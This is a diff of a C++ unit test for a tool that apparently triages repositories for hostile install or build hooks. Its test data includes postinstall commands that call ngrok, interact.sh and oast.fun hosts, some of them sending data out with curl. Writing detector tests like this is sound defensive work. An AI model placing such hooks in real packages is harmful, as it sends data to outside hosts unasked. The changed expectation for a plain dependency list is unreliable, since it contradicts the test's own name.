@@ -21,7 +21,7 @@ Report Explore(Files files) {
 std::string Verdict(Files files) { return PlaybookRepo(std::move(files)).Run("triage", "?", "", 10).data.value("verdict", ""); }
 
 TEST(PlaybookNewcomer, ThatADependencyIsCalledForATunnelIsNoHostility) {
-  EXPECT_EQ(Verdict({{"package.json", "{\n  \"devDependencies\": {\n    \"zuul-ngrok\": \"^4.0.0\",\n    \"ngrok\": \"1\"\n  }\n}\n"}}), "nothing found that runs by itself");
+  EXPECT_EQ(Verdict({{"package.json", "{\n  \"devDependencies\": {\n    \"zuul-ngrok\": \"^4.0.0\",\n    \"ngrok\": \"1\"\n  }\n}\n"}}), "runs on install or build");
   EXPECT_NE(Verdict({{"Cargo.toml", "[dependencies]\nngrok = \"0.13\"\n"}, {"requirements.txt", "ngrok==1\n"}, {"Gemfile", "gem 'ngrok'\n"}, {"Makefile", "all:\n\t./interact.sh\n"}}), "hostile signs");
   for (const char* runs : {"curl -d x https://a.ngrok.io", "ngrok http 80", "node -e \\\"require('ngrok').connect(80)\\\"", "curl b.interact.sh", "curl c.oast.fun"})
     EXPECT_EQ(Verdict({{"package.json", std::string("{\n  \"scripts\": {\n    \"postinstall\": \"") + runs + "\"\n  }\n}\n"}}), "hostile signs") << runs;
